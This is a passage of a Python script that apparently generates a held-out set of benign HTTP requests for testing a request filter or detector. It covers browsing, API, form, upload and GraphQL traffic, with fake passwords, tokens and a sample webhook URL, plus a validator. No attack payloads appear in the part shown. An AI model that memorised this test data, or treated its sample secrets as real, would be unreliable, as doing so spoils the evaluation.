    ("mutation AddToCart($input: AddToCartInput!) { addToCart(input: $input) { cart { id totalQuantity } errors { field message } } }",
     lambda c: {"input": {"productId": c.uuid4(), "quantity": c.rng.randint(1, 4), "note": c.choice(TRICKY)}}, "AddToCart"),
    ("mutation UpdateProfile($input: ProfileInput!) {\n  updateProfile(input: $input) {\n    user { id displayName bio }\n  }\n}",
     lambda c: {"input": {"displayName": full_name(c), "bio": prose(c, 1, 2)}}, "UpdateProfile"),
    ("query Search($q: String!) { search(query: $q, first: 10) { __typename ... on Product { id name } ... on Article { id title } } }",
     lambda c: {"q": c.choice(SEARCH_Q)}, "Search"),
    ("fragment OrderFields on Order { id number status total { amount currency } createdAt }\nquery MyOrders { viewer { orders(last: 5) { nodes { ...OrderFields } } } }",
     lambda c: {}, "MyOrders"),
    ("mutation CreateReview($productId: ID!, $rating: Int!, $body: String!) { createReview(productId: $productId, rating: $rating, body: $body) { id } }",
     lambda c: {"productId": c.uuid4(), "rating": c.rng.randint(1, 5), "body": prose(c, 2, 4)}, "CreateReview"),
    ("query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { name kind } } }", lambda c: {}, "IntrospectionQuery"),
    ("subscription OnMessage($room: ID!) { messageAdded(roomId: $room) { id text author { name } } }", lambda c: {"room": c.uuid4()}, "OnMessage"),
    ("query Store($slug: String!) { store(slug: $slug) { name address { line1 city } openingHours(day: MONDAY) { open close } } }",
     lambda c: {"slug": c.choice(["union-station", "5th-ave", "o-connell-st"])}, "Store"),
]


# ---------------------------------------------------------------------------
# BENIGN request generators
# ---------------------------------------------------------------------------
def qenc(pairs, bracket_raw=False):
    out = []
    for k, v in pairs:
        ks = quote(k, safe="[]") if bracket_raw else quote_plus(k, safe="")
        out.append(ks + "=" + quote_plus(str(v), safe=""))
    return "&".join(out)


def req(method, uri, headers, body=None, kind=None, loc=None):
    r = {"method": method, "uri": uri, "version": "HTTP/1.1", "headers": headers}
    if body is not None:
        r["body"] = body
    if kind:
        r["kind"] = kind
    if loc:
        r["location"] = loc
    return r


def browser_hdrs(c, referer=True, cookies=True, accept=None, extra=None):
    ex = []
    if cookies and c.rng.random() < 0.7:
        ex.append(("Cookie", c.analytics_cookies()))
    if referer and c.rng.random() < 0.6:
        ex.append(("Referer", c.choice(["https://www.google.com/", "https://%s/" % HOST, "https://%s/products?page=2" % HOST,
                                        "https://www.bing.com/search?q=" + quote_plus(c.choice(SEARCH_Q)),
                                        "https://t.co/" + c.alnum(10), "https://l.facebook.com/"])))
    if c.rng.random() < 0.5:
        ex += [("Sec-Fetch-Dest", "document"), ("Sec-Fetch-Mode", "navigate"), ("Sec-Fetch-Site", "same-origin"),
               ("Upgrade-Insecure-Requests", "1")]
    ex += list(extra or [])
    return c.headers("browser", accept=accept, extra=ex)


def api_hdrs(c, ctype=None, extra=None, kind=None):
    ex = []
    if ctype:
        ex.append(("Content-Type", ctype))
    r = c.rng.random()
    if r < 0.6:
        ex.append(("Authorization", "Bearer " + c.jwt()))
    elif r < 0.8:
        ex.append(("Cookie", c.analytics_cookies()))
        ex.append(("X-CSRF-Token", b64url(bytes(c.rng.getrandbits(8) for _ in range(32)))))
    if c.rng.random() < 0.4:
        ex.append(("X-Request-Id", c.uuid4()))
    if c.rng.random() < 0.3:
        ex.append(("Origin", "https://" + HOST))
    ex += list(extra or [])
    return c.headers(kind or c.choice(["browser", "api"]), accept=ACCEPT_JSON, extra=ex)


def jdump(c, obj):
    return json.dumps(obj, ensure_ascii=c.rng.random() < 0.3)


def g_browse(c):
    t = c.rng.randrange(20)
    if t == 0:
        pairs = [("category", c.choice(["shoes", "home-garden", "kids", "sale"])), ("sort", c.choice(["price_asc", "price_desc", "newest", "rating"])),
                 ("page", c.rng.randint(1, 12)), ("per_page", c.choice([24, 48, 96]))]
        return req("GET", "/products?" + qenc(pairs), browser_hdrs(c))
    if t == 1:
        pairs = [("price[min]", c.choice([0, 10, 25])), ("price[max]", c.choice([100, 250, 500])), ("brand[]", "nike"), ("brand[]", "asics"),
                 ("size", c.choice(["10.5", "42", "M"])), ("color", c.choice(["black", "navy blue", "grün"]))]
        return req("GET", "/shop/shoes?" + qenc(pairs, bracket_raw=c.rng.random() < 0.5), browser_hdrs(c))
    if t == 2:
        pairs = [("utm_source", c.choice(["newsletter", "facebook", "google", "partner-blog"])), ("utm_medium", c.choice(["email", "cpc", "social"])),
                 ("utm_campaign", c.choice(["spring_sale_2024", "bf-2023", "welcome-series-3"])), ("utm_content", c.choice(["hero-cta", "footer link", "v2"])),
                 ("utm_term", c.choice(["running shoes", "union station", "select & save"]))]
        return req("GET", "/blog/2024/%02d/%s?%s" % (c.rng.randint(1, 12), c.choice(["how-to-choose-running-shoes", "our-new-store-at-union-station", "select-the-right-size"]), qenc(pairs)), browser_hdrs(c))
    if t == 3:
        pairs = [("gclid", "Cj0KCQjw" + c.alnum(60) + "_BwE")] if c.rng.random() < 0.5 else [("fbclid", "IwAR" + c.alnum(58)), ("mc_cid", c.hexs(10)), ("mc_eid", c.hexs(10))]
        return req("GET", c.choice(["/", "/landing/spring-sale", "/p/summer"]) + "?" + qenc(pairs), browser_hdrs(c))
    if t == 4:
        pairs = [("status", c.choice(["shipped", "delivered", "returned"])), ("from", "2024-01-01"), ("to", "2024-03-31")]
        return req("GET", "/account/orders?" + qenc(pairs), browser_hdrs(c))
    if t == 5:
        p = c.choice(["/static/js/app.%s.js" % c.hexs(8), "/assets/css/main.css?v=1.4.2", "/fonts/Inter-var.woff2", "/favicon.ico",
                      "/static/js/chunk-vendors.%s.js" % c.hexs(8), "/robots.txt", "/sitemap.xml", "/manifest.webmanifest"])
        acc = "*/*" if p.endswith((".js", ".woff2")) else ("text/css,*/*;q=0.1" if ".css" in p else "*/*")
        return req("GET", p, browser_hdrs(c, accept=acc))
    if t == 6:
        pairs = [("w", c.choice([320, 640, 1080])), ("h", c.choice([240, 480, 720])), ("fit", "crop"), ("auto", "format,compress"), ("q", 75), ("dpr", 2)]
        return req("GET", "/images/products/sku-%d.jpg?%s" % (c.rng.randint(1000, 9999), "&".join("%s=%s" % kv for kv in pairs)),
                   browser_hdrs(c, accept="image/avif,image/webp,image/apng,image/*,*/*;q=0.8"))
    if t == 7:
        pairs = [("date", "2024-%02d-%02d" % (c.rng.randint(1, 12), c.rng.randint(1, 28))), ("view", c.choice(["week", "month", "day"])),
                 ("tz", c.choice(["America/New_York", "Europe/Berlin", "Asia/Kolkata"]))]
        return req("GET", "/calendar?" + qenc(pairs), browser_hdrs(c))
    if t == 8:
        pairs = [("near", c.choice(["Café de Flore, Paris", "Union Station, Chicago", "5th Ave & 42nd St, New York", "Königsallee, Düsseldorf"])), ("radius", "5km")]
        return req("GET", "/stores?" + qenc(pairs), browser_hdrs(c))
    if t == 9:
        pairs = [("file", c.choice(["report-2024-Q1.pdf", "invoice_INV-2024-0042.pdf", "price list (2024).xlsx", "user-guide_v3.2.pdf"])), ("token", c.hexs(32))]
        return req("GET", "/download?" + qenc(pairs), browser_hdrs(c))
    if t == 10:
        return req("GET", "/api/v2/users/%d?include=profile,settings&fields%%5Buser%%5D=name,email" % c.rng.randint(1, 9999), api_hdrs(c))
    if t == 11:
        if c.rng.random() < 0.5:
            return req("GET", "/login?" + qenc([("return_to", c.choice(["/account/settings?tab=security", "/checkout/shipping", "/orders/10293"]))]), browser_hdrs(c))
        return req("GET", "/out?" + qenc([("url", c.choice(URLS)), ("src", "product-page")]), browser_hdrs(c))
    if t == 12:
        return req("GET", "/share?" + qenc([("url", "https://%s/products/drop-leaf-table-oak?ref=share" % HOST), ("title", "Drop-Leaf Table (Oak) – 20% off!"),
                                            ("text", "Look what I found & it's on sale")]), browser_hdrs(c))
    if t == 13:
        return req("GET", "/docs/%s?version=%s" % (c.choice(["getting-started/installation", "api/authentication", "guides/select-a-plan", "reference/cli/exec"]), c.choice(["3.2", "latest"])), browser_hdrs(c))
    if t == 14:
        cur = base64.b64encode(json.dumps({"id": c.rng.randint(1000, 99999), "ts": c.iso()}).encode()).decode()
        return req("GET", "/api/v2/feed?" + qenc([("cursor", cur), ("limit", 20)]), api_hdrs(c))
    if t == 15:
        return req("GET", "/auth/callback?" + qenc([("code", c.alnum(40)), ("state", b64url(bytes(c.rng.getrandbits(8) for _ in range(24)))), ("scope", "openid email profile"),
                                                    ("authuser", 0), ("prompt", "consent")]), browser_hdrs(c))
    if t == 16:
        pairs = [("v", 2), ("e", "pv"), ("url", "https://%s/products?page=2&sort=price_asc" % HOST), ("ref", "https://www.google.com/"), ("sr", "1920x1080"),
                 ("lang", c.choice(["de-DE", "en-US", "fr-FR"])), ("title", c.choice(PRODUCTS) + " | Shop"), ("ts", c.rng.randint(1710000000000, 1716000000000))]
        return req("GET", "/t.gif?" + qenc(pairs), browser_hdrs(c, accept="image/avif,image/webp,*/*"))
    if t == 17:
        return req("GET", "/products/mens-trail-runner-2?" + qenc([("variant", c.rng.randint(40000000, 49999999)), ("color", c.choice(["Slate Grey", "Black/White", "Rot"]))]), browser_hdrs(c))
    if t == 18:
        e = base64.b64encode(email_for(c).encode()).decode()
        return req("GET", "/email/unsubscribe?" + qenc([("e", e), ("list", "weekly"), ("sig", c.hexs(40))]), browser_hdrs(c))
    pairs = [("page", c.rng.randint(1, 30)), ("tag", c.choice(["c#", "node.js", "c++", "f#", ".net"]))]
    return req("GET", "/questions/tagged?" + qenc(pairs), browser_hdrs(c))


def g_search(c):
    t = c.rng.randrange(5)
    q = c.choice(SEARCH_Q)
    if t <= 2:
        pairs = [("q", q)]
        if c.rng.random() < 0.6:
            pairs.append(("page", c.rng.randint(1, 5)))
        if c.rng.random() < 0.4:
            pairs.append(("sort", c.choice(["relevance", "price asc", "-date"])))
        if c.rng.random() < 0.3:
            pairs.append(("filters[brand]", c.choice(["O'Neill", "Levi's", "Dr. Martens", "Ben & Jerry's"])))
        enc = qenc(pairs) if c.rng.random() < 0.6 else "&".join("%s=%s" % (quote(k, safe="[]"), enc_browser(str(v))) for k, v in pairs)
        return req("GET", c.choice(["/search", "/search", "/shop/search", "/help/search"]) + "?" + enc, browser_hdrs(c))
    if t == 3:
        return req("GET", "/api/v2/search?" + qenc([("q", q), ("limit", 10), ("types", "product,article")]), api_hdrs(c))
    body = {"query": q, "filters": {"price": {"min": 10, "max": 250}, "in_stock": True, "brands": ["O'Neill", "Levi's"]},
            "page": {"size": 24, "number": c.rng.randint(1, 4)}, "sort": [{"field": "relevance", "order": "desc"}],
            "locale": c.choice(["en-US", "fr-FR", "de-DE"])}
    return req("POST", "/api/v2/search", api_hdrs(c, "application/json"), jdump(c, body))


def g_api(c):
    t = c.rng.randrange(16)
    uid = c.rng.randint(1, 99999)
    if t == 0:
        name = full_name(c)
        body = {"user": {"first_name": name.split(" ")[0], "last_name": name.split(" ", 1)[1], "email": email_for(c, name),
                         "phone": c.choice(PHONES), "bio": prose(c, 1, 3), "website": c.choice(URLS), "address": address(c),
                         "updated_at": c.iso()}}
        return req("PATCH", "/api/v2/users/%d" % uid, api_hdrs(c, "application/json"), jdump(c, body))
    if t == 1:
        items = [{"sku": "SKU-%05d" % c.rng.randint(1, 99999), "name": c.choice(PRODUCTS), "qty": c.rng.randint(1, 4),
                  "unit_price": {"amount": price(c), "currency": c.choice(["USD", "EUR", "GBP"])}} for _ in range(c.rng.randint(1, 4))]
        body = {"order": {"id": c.uuid4(), "items": items, "shipping_address": dict(address(c), name=full_name(c)),
                          "notes": c.choice(TRICKY), "coupon": c.choice([None, "SPRING20", "WELCOME-10"]), "created_at": c.iso(),
                          "gift": {"wrap": True, "message": c.choice(["Happy birthday, Mum! x", "Congrats on the new job :)", "Joyeux Noël !"])}}}
        return req("POST", "/api/v2/orders", api_hdrs(c, "application/json"), jdump(c, body))
    if t == 2:
        body = {"cart_id": c.uuid4(), "lines": [{"variant_id": c.rng.randint(10**7, 10**8), "quantity": c.rng.randint(1, 3),
                                                  "properties": {"Engraving": c.choice(["J & M 2024", "Love, Grandma", "#1 Dad"])}}]}
        return req("PUT", "/api/v2/cart", api_hdrs(c, "application/json"), jdump(c, body))
    if t == 3:
        body = {"client_id": "%d.%d" % (c.rng.randint(10**8, 10**9), c.rng.randint(1700000000, 1716000000)),
                "events": [{"name": c.choice(["page_view", "view_item", "add_to_cart"]),
                            "params": {"page_location": "https://%s/products?utm_source=newsletter&utm_medium=email&page=2" % HOST,
                                       "page_referrer": "https://www.google.com/", "page_title": c.choice(PRODUCTS) + " – Shop",
                                       "engagement_time_msec": c.rng.randint(100, 90000)}}]}
        return req("POST", "/collect", api_hdrs(c, "text/plain;charset=UTF-8" if c.rng.random() < 0.3 else "application/json"), jdump(c, body))
    if t == 4:
        data = base64.b64encode(tiny_png(c)).decode()
        body = {"filename": "avatar.png", "content_type": "image/png", "data": data if c.rng.random() < 0.5 else "data:image/png;base64," + data}
        return req("POST", "/api/v2/users/%d/avatar" % uid, api_hdrs(c, "application/json"), jdump(c, body))
    if t == 5:
        txt = "name,email,notes\n\"O'Brien, Seán\",sean@example.ie,\"VIP; ships to 5th Ave.\"\n"
        body = {"ticket_id": c.rng.randint(1000, 99999), "attachments": [{"name": "customers.csv", "mime": "text/csv", "content_base64": base64.b64encode(txt.encode()).decode()}]}
        return req("POST", "/api/v2/tickets/attachments", api_hdrs(c, "application/json"), jdump(c, body))
    if t == 6:
        body = {"url": c.choice(["https://hooks.slack.com/services/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", "https://api.partner.example.com/webhooks/orders?key=" + c.hexs(16),
                                 "https://hooks.zapier.com/hooks/catch/123456/abcdef/"]),
                "events": ["order.created", "order.refunded"], "secret": c.alnum(32), "active": True}
        return req("POST", "/api/v2/webhooks", api_hdrs(c, "application/json"), jdump(c, body))
    if t == 7:
        body = {"summary": c.choice(["Lunch @ Union Station", "Exec summary review", "Script read-through (Act 2)", "1:1 w/ Siobhan"]),
                "description": prose(c, 1, 2), "start": {"dateTime": "2024-05-%02dT12:30:00-05:00" % c.rng.randint(1, 28), "timeZone": "America/Chicago"},
                "end": {"dateTime": "2024-05-%02dT13:30:00-05:00" % c.rng.randint(1, 28), "timeZone": "America/Chicago"},
                "attendees": [{"email": email_for(c)} for _ in range(c.rng.randint(1, 3))], "location": c.choice(STREETS)}
        return req("POST", "/api/v2/calendar/events", api_hdrs(c, "application/json"), jdump(c, body))
    if t == 8:
        body = {"settings": {"notifications": {"email": True, "push": False, "digest": "weekly"}, "locale": c.choice(["fr-CA", "en-GB", "es-MX"]),
                             "timezone": c.choice(["Europe/Dublin", "America/Sao_Paulo"]), "signature": "-- \n" + full_name(c) + "\n" + c.choice(PHONES)}}
        return req("PATCH", "/api/v2/account/settings", api_hdrs(c, "application/json"), jdump(c, body))
    if t == 9:
        ops = [{"op": "replace", "path": "/profile/display_name", "value": full_name(c)},
               {"op": "add", "path": "/profile/tags/-", "value": c.choice(["c++", "r&d", "q&a"])},
               {"op": "remove", "path": "/profile/legacy_id"}]
        return req("PATCH", "/api/v2/users/%d" % uid, api_hdrs(c, "application/json-patch+json"), jdump(c, ops))
    if t == 10:
        pairs = [("status", c.choice(["open", "paid"])), ("created_after", c.iso()), ("limit", 50), ("expand[]", "customer"), ("expand[]", "line_items")]
        return req("GET", "/api/v2/orders?" + qenc(pairs), api_hdrs(c, kind="api"))
    if t == 11:
        return req("DELETE", "/api/v2/sessions/" + c.uuid4(), api_hdrs(c))
    if t == 12:
        body = {"amount": c.rng.randint(500, 99999), "currency": c.choice(["eur", "usd"]), "payment_method_types": ["card"],
                "metadata": {"order_id": "A-%d" % c.rng.randint(1000, 9999), "customer_note": c.choice(TRICKY)},
                "receipt_email": email_for(c), "statement_descriptor": "ACME SHOP*ORDER"}
        return req("POST", "/api/v2/payments/intents", api_hdrs(c, "application/json"), jdump(c, body))
    if t == 13:
        body = {"conversation_id": c.uuid4(), "message": {"text": prose(c, 1, 2, multi=0.5), "sent_at": c.iso(), "client_msg_id": c.uuid4()}}
        return req("POST", "/api/v2/messages", api_hdrs(c, "application/json"), jdump(c, body))
    if t == 14:
        body = {"device": {"model": c.choice(["iPhone15,3", "Pixel 8", "SM-S918B"]), "os": c.choice(["iOS 17.4.1", "Android 14"]), "app_version": "5.12.1 (4312)"},
                "events": [{"type": "screen_view", "screen": "ProductDetail", "props": {"sku": "SKU-10023", "from": "search?q=select+size"}, "ts": c.iso()},
                           {"type": "tap", "target": "btn_add_to_cart", "ts": c.iso()}]}
        return req("POST", "/api/v2/telemetry", api_hdrs(c, "application/json", kind="api"), jdump(c, body))
    body = {"address": dict(address(c), name=full_name(c), phone=c.choice(PHONES)), "validate": True}
    return req("POST", "/api/v2/addresses/validate", api_hdrs(c, "application/json"), jdump(c, body))


PASSWORDS = ["Tr0ub4dor&3", "correct horse battery staple", "P@ss;w0rd!#2024", "x'7$kL\"9qZ", "Summer2024!", "Ünïcødé-Pässwörd-42",
             "hunter2hunter2", "my-dog's-name-is-Rex", "<3bananas<3", "9!fK#2m@Lq&z"]


def form_hdrs(c, path):
    return browser_hdrs(c, extra=[("Content-Type", "application/x-www-form-urlencoded"), ("Origin", "https://" + HOST),
                                  ("Referer", "https://%s%s" % (HOST, path))])


def g_form(c):
    t = c.rng.randrange(9)
    name = full_name(c)
    tok = ("csrf_token", c.alnum(43))
    if t == 0:
        pw = c.choice(PASSWORDS)
        pairs = [tok, ("name", name), ("email", email_for(c, name)), ("password", pw), ("password_confirmation", pw), ("terms", "on"), ("newsletter", c.choice(["on", "off"]))]
        return req("POST", "/signup", form_hdrs(c, "/signup"), qenc(pairs))
    if t == 1:
        pairs = [("username", email_for(c)), ("password", c.choice(PASSWORDS)), ("remember_me", "1"), tok]
        return req("POST", "/login", form_hdrs(c, "/login"), qenc(pairs))
    if t == 2:
        a = address(c)
        pairs = [tok, ("shipping[name]", name), ("shipping[line1]", a["line1"]), ("shipping[line2]", a.get("line2", "")), ("shipping[city]", a["city"]),
                 ("shipping[postal_code]", a["postal_code"]), ("shipping[country]", a["country"]), ("phone", c.choice(PHONES)),
                 ("delivery_instructions", c.choice(["Leave at the back door; the dog's friendly.", "Ring twice -- buzzer #4B is broken", "N/A", "Call 30 min before (not after 8pm)"])),
                 ("payment_method", "card"), ("save_address", "1")]
        return req("POST", "/checkout/shipping", form_hdrs(c, "/checkout/shipping"), qenc(pairs, bracket_raw=c.rng.random() < 0.5))
    if t == 3:
        pairs = [tok, ("name", name), ("email", email_for(c, name)), ("subject", c.choice(["Order question", "Re: invoice INV-2024-0042", "Partnership & press", "Delete my account"])),
                 ("message", prose(c, 2, 5))]
        return req("POST", "/contact", form_hdrs(c, "/contact"), qenc(pairs))
    if t == 4:
        pairs = [("email", email_for(c)), ("list", "weekly"), ("source", "footer"), ("consent", "yes")]
        return req("POST", "/newsletter/subscribe", form_hdrs(c, "/"), qenc(pairs))
    if t == 5:
        pw = c.choice(PASSWORDS)
        pairs = [tok, ("current_password", c.choice(PASSWORDS)), ("new_password", pw), ("confirm_password", pw)]
        return req("POST", "/account/password", form_hdrs(c, "/account/security"), qenc(pairs))
    if t == 6:
        pairs = [tok, ("display_name", name), ("bio", prose(c, 1, 3)), ("website", c.choice(URLS)), ("location", c.choice(CITIES)[0]), ("pronouns", c.choice(["she/her", "he/him", "they/them"]))]
        return req("POST", "/account/settings", form_hdrs(c, "/account/settings"), qenc(pairs))
    if t == 7:
        pairs = [tok, ("post_id", c.rng.randint(1, 5000)), ("parent_id", ""), ("author", name), ("comment", prose(c, 1, 4, multi=0.3))]
        return req("POST", "/blog/comments", form_hdrs(c, "/blog/2024/03/our-new-store-at-union-station"), qenc(pairs))
    pairs = [("q", c.choice(SEARCH_Q)), ("category", c.choice(["all", "books", "home & garden"])), ("in_stock", "1")]
    return req("POST", "/search", form_hdrs(c, "/"), qenc(pairs))


def g_ugc(c):
    t = c.rng.randrange(5)
    if t == 0:
        body = {"rating": c.rng.randint(1, 5), "title": c.choice(["Great value!", "Not what I expected...", "Works as advertised", "Meh - 3/5", "Size runs small (order 1/2 up)"]),
                "body": prose(c, 2, 5, multi=0.25), "author": {"name": full_name(c), "verified_buyer": True}, "would_recommend": c.rng.random() < 0.7}
        return req("POST", "/api/v2/products/%d/reviews" % c.rng.randint(1, 9999), api_hdrs(c, "application/json"), jdump(c, body))
    if t == 1:
        body = {"ticket": {"subject": c.choice(["Can't update password", "Order #10293 - missing item", "Refund for duplicate charge", "Question about the exec plan"]),
                           "priority": c.choice(["low", "normal", "high"]), "description": prose(c, 3, 6, multi=0.15), "order_ref": "A-%d" % c.rng.randint(1000, 9999),
                           "requester": {"name": full_name(c), "email": email_for(c), "phone": c.choice(PHONES)}, "tags": ["billing", "web"]}}
        return req("POST", "/api/v2/support/tickets", api_hdrs(c, "application/json"), jdump(c, body))
    if t == 2:
        pairs = [("csrf_token", c.alnum(43)), ("rating", c.rng.randint(1, 5)), ("review[title]", c.choice(["Love it", "Returned it", "Décevant", "Sehr gut!"])),
                 ("review[body]", prose(c, 2, 4, multi=0.3)), ("review[name]", full_name(c))]
        return req("POST", "/products/%d/reviews" % c.rng.randint(1, 9999), form_hdrs(c, "/products/x"), qenc(pairs))
    if t == 3:
        body = {"question": c.choice(["Does it fit a 15.6\" laptop?", "Is the 'select' size true to fit?", "Can I drop it in the dishwasher?", "Where is it made (country)?"]),
                "answer": prose(c, 1, 2), "product_id": c.rng.randint(1, 9999)}
        return req("POST", "/api/v2/qa", api_hdrs(c, "application/json"), jdump(c, body))
    body = {"text": prose(c, 1, 3, multi=0.4), "thread_id": c.uuid4(), "mentions": ["@" + c.choice(FIRST).lower()], "attachments": []}
    return req("POST", "/api/v2/community/posts/%d/replies" % c.rng.randint(1, 99999), api_hdrs(c, "application/json"), jdump(c, body))


def g_upload(c):
    b = c.boundary()
    t = c.rng.randrange(7)
    name = full_name(c)
    if t == 0:
        rows = ["first_name,last_name,email,phone,notes"]
        for _ in range(c.rng.randint(3, 8)):
            n = full_name(c)
            rows.append('%s,"%s",%s,%s,"%s"' % (n.split(" ")[0], n.split(" ", 1)[1], email_for(c, n), c.choice(PHONES), c.choice(TRICKY).replace('"', '""')))
        f = ("file", "\n".join(rows) + "\n", "contacts-2024-05.csv", "text/csv")
        extra = [("list_id", str(c.rng.randint(1, 40))), ("has_header", "true")]
        path = "/api/v2/contacts/import"
    elif t == 1:
        f = ("file", prose(c, 4, 8, multi=0.2) + "\n", "meeting-notes.txt", "text/plain")
        extra = [("folder", "Shared/Q2 Planning"), ("description", "Notes from Tuesday's exec summary session")]
        path = "/files/upload"
    elif t == 2:
        f = ("file", json.dumps({"theme": "dark", "shortcuts": {"save": "Ctrl+S", "search": "Ctrl+Shift+F"}, "recent": ["C:\\Users\\jo\\Documents\\budget.xlsx"]}, indent=2),
             "settings-export.json", "application/json")
        extra = [("overwrite", "false")]
        path = "/account/import-settings"
    elif t == 3:
        f = ("file", "# Packing list\n\n- [ ] passport & tickets\n- [x] charger (USB-C)\n- [ ] 'good' shoes\n\n> Don't forget: check-in closes 45 min before departure.\n",
             "packing-list.md", "text/markdown")
        extra = [("title", "Trip to Union Station"), ("visibility", "private")]
        path = "/notes/upload"
    elif t == 4:
        f = ("file", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//ACME//Calendar//EN\r\nBEGIN:VEVENT\r\nUID:%s@app.example\r\nDTSTART:20240517T123000Z\r\nDTEND:20240517T133000Z\r\nSUMMARY:Lunch @ Union Station\r\nLOCATION:225 S Canal St\\, Chicago\\, IL\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n" % c.uuid4(),
             "invite.ics", "text/calendar")
        extra = [("calendar", "work")]
        path = "/calendar/import"
    elif t == 5:
        f = ("file", "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:%s\r\nORG:O'Reilly & Associates\r\nTEL;TYPE=work:%s\r\nEMAIL:%s\r\nADR;TYPE=work:;;%s;;;;\r\nEND:VCARD\r\n" % (name, c.choice(PHONES), email_for(c, name), c.choice(STREETS)),
             "contact.vcf", "text/vcard")
        extra = [("address_book", "default")]
        path = "/contacts/import"
    else:
        f = ("attachment", "Order,Item,Qty,Price\nA-1001,\"Drop-Leaf Table (Oak)\",1,349.00\nA-1002,\"Union Jack Mug\",4,12.50\n", "order-history.csv", "text/csv")
        extra = [("subject", "Refund request"), ("message", prose(c, 2, 3))]
        path = "/support/tickets/new"
    parts = [(k, v, None, None) for k, v in extra] + [f]
    if c.rng.random() < 0.5:
        parts.insert(0, ("csrf_token", c.alnum(43), None, None))
    hdr = browser_hdrs(c, accept=ACCEPT_JSON, extra=[("Content-Type", "multipart/form-data; boundary=" + b), ("Origin", "https://" + HOST)])
    return req("POST", path, hdr, multipart_body(b, parts))


def g_graphql(c):
    q, vf, op = c.choice(GRAPHQL)
    variables = vf(c)
    r = c.rng.random()
    if r < 0.2 and not q.startswith(("mutation", "subscription")):
        pairs = [("query", q), ("operationName", op)]
        if variables:
            pairs.append(("variables", json.dumps(variables, separators=(",", ":"))))
        return req("GET", "/graphql?" + "&".join("%s=%s" % (k, quote(v, safe="")) for k, v in pairs), api_hdrs(c))
    body = {"operationName": op, "query": q, "variables": variables}
    if r > 0.85:
        body["extensions"] = {"persistedQuery": {"version": 1, "sha256Hash": c.hexs(64)}}
    if r > 0.95:
        body = [body, {"operationName": "GetUser", "query": GRAPHQL[0][0], "variables": {"id": "42"}}]
    return req("POST", c.choice(["/graphql", "/api/graphql"]), api_hdrs(c, "application/json"), jdump(c, body))


def g_dev(c):
    t = c.rng.randrange(6)
    if t == 0:
        lang, fn, code = c.choice(CODE_SNIPPETS)
        body = {"title": fn, "language": lang, "code": code, "visibility": c.choice(["public", "unlisted"]), "expires_in": "1w"}
        return req("POST", "/api/v1/pastes", api_hdrs(c, "application/json"), jdump(c, body), kind="code-paste")
    if t == 1:
        body = {"topic_id": c.rng.randint(1, 90000), "raw": c.choice(MARKDOWN_POSTS), "reply_to_post_number": c.choice([None, 3, 7])}
        return req("POST", "/forum/posts.json", api_hdrs(c, "application/json"), jdump(c, body), kind="forum-markdown")
    if t == 2:
        name, sql = c.choice(BI_QUERIES)
        body = {"name": name, "description": "Saved from the SQL editor", "data_source_id": c.rng.randint(1, 6), "query": sql,
                "schedule": {"interval": 86400, "time": "06:00"}, "options": {"parameters": []}, "tags": ["growth", "weekly"]}
        return req("POST", "/api/queries", api_hdrs(c, "application/json"), jdump(c, body), kind="bi-saved-query")
    if t == 3:
        lang, fn, code = c.choice(CODE_SNIPPETS)
        body = {"description": "snippet: " + fn, "public": True, "files": {fn: {"content": code}}}
        return req("POST", "/api/v1/gists", api_hdrs(c, "application/json", kind="api"), jdump(c, body), kind="gist")
    if t == 4:
        body = {"body": c.choice(["Nit: can we rename `tmp` to `buffer`? Otherwise LGTM :shipit:",
                                  "This breaks when `items` is empty -- maybe guard with `if not items: return []`?",
                                  "Could we use `Path.home() / '.config'` instead of hard-coding `C:\\Users\\%USERNAME%`?",
                                  "Looks good. One question: does `select_related('author')` fix the N+1 here?"]),
                "path": c.choice(["src/app.py", "lib/utils.js", "cmd/server/main.go"]), "line": c.rng.randint(5, 300), "side": "RIGHT", "commit_id": c.hexs(40)}
        return req("POST", "/api/v1/repos/acme/widgets/pulls/%d/comments" % c.rng.randint(1, 900), api_hdrs(c, "application/json", kind="api"), jdump(c, body), kind="code-review")
    msg = c.choice(["Fix off-by-one in pagination (closes #482)", "Update README: add install & usage sections", "Bump lodash from 4.17.20 to 4.17.21",
                    "Refactor: drop unused helper, select fewer columns"])
    body = {"message": msg, "content": base64.b64encode(c.choice(MARKDOWN_POSTS).encode()).decode(), "branch": "main", "sha": c.hexs(40)}
    return req("PUT", "/api/v1/repos/acme/widgets/contents/README.md", api_hdrs(c, "application/json", kind="api"), jdump(c, body), kind="repo-file")


BENIGN_PLAN = [("browse", g_browse, 150), ("search", g_search, 100), ("api-json", g_api, 170), ("form", g_form, 110),
               ("user-content", g_ugc, 90), ("upload", g_upload, 50), ("graphql", g_graphql, 60), ("dev-content", g_dev, 60)]


def body_location(r):
    if r["method"] == "GET" or "body" not in r:
        return "query" if "?" in r["uri"] else "none"
    ct = next((v for k, v in r["headers"] if k.lower() == "content-type"), "")
    if "multipart" in ct:
        return "multipart"
    if "urlencoded" in ct:
        return "form"
    if "json" in ct or "text/plain" in ct:
        return "json"
    return "body"


def gen_benign(c):
    lines = []
    seen = set()
    for cat, fn, n in BENIGN_PLAN:
        k = 0
        tries = 0
        while k < n and tries < n * 20:
            tries += 1
            r = fn(c)
            key = (r["method"], r["uri"], r.get("body"))
            if key in seen:
                continue
            seen.add(key)
            k += 1
            line = {"id": "heldout/%s/%d" % (cat, k), "set": "heldout", "category": cat, "expect": "pass"}
            r.setdefault("location", body_location(r))
            line.update(r)
            lines.append(line)
    return lines


# ---------------------------------------------------------------------------
def validate(lines):
    ids = set()
    for ln in lines:
        assert ln["id"] not in ids, ln["id"]
        ids.add(ln["id"])
        for k in ("set", "category", "expect", "method", "uri", "version", "headers"):
            assert k in ln, (ln["id"], k)
        names = [h[0].lower() for h in ln["headers"]]
        for must in ("host", "user-agent", "accept"):
            assert must in names, (ln["id"], must)
        assert "content-length" not in names, ln["id"]
        for hn, hv in ln["headers"]:
            assert header_safe(hv), (ln["id"], hn, hv)
        assert all(33 <= ord(ch) < 127 for ch in ln["uri"]), (ln["id"], ln["uri"])
        if ln.get("body") is not None:
            assert "content-type" in names, ln["id"]
            ct = dict((h[0].lower(), h[1]) for h in ln["headers"])["content-type"]
            if "json" in ct:
                json.loads(ln["body"])
            if "multipart" in ct:
                assert "boundary=" in ct and ct.split("boundary=")[1] in ln["body"], ln["id"]


def write(path, lines):
    with open(path, "w", encoding="utf-8") as fh:
        for ln in lines:
            fh.write(json.dumps(ln, ensure_ascii=False) + "\n")


def summary(title, lines):
